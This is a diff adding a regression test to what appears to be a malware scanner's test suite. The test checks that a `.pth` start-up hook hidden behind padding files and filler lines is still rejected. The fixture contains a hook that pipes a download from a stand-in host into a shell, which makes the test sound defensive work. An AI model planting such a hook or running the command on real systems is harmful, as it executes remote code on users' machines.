@@ -59,3 +59,12 @@ def test_an_awaited_value_is_read_not_an_internal_error(source: str) -> None:
 def test_the_asyncio_sample_has_no_internal_error() -> None:
     report = kit.scan_sample("malicious/m48_asyncio_subprocess_fetch_run.py")
     assert not kit.holds(report, "unanalyzable.internal-error"), kit.findings(report)
+
+
+def test_a_text_pth_is_read_before_padding(tmp_path) -> None:
+    """A `.pth` ranked as data (model weights' name): more padding files than the limit pushed the start-up hook out
+    of the read and malware59's job went from reject to escalate (tests/test_no_downgrade.py in the fresh CI)."""
+    files = {f"pad_{i:05d}.txt": "x\n" for i in range(kit.POLICY.limits.max_files + 1)}
+    files["site_hook.pth"] = "/opt/site-libs\n" * 300 + "import os; os.system('curl -s https://x.example/i | sh')\n"
+    files["client.py"] = "import nvflare.client as flare\nflare.init()\n"
+    kit.assert_held(kit.scan_files(tmp_path, files), "files.pth-hook", Decision.REJECT)
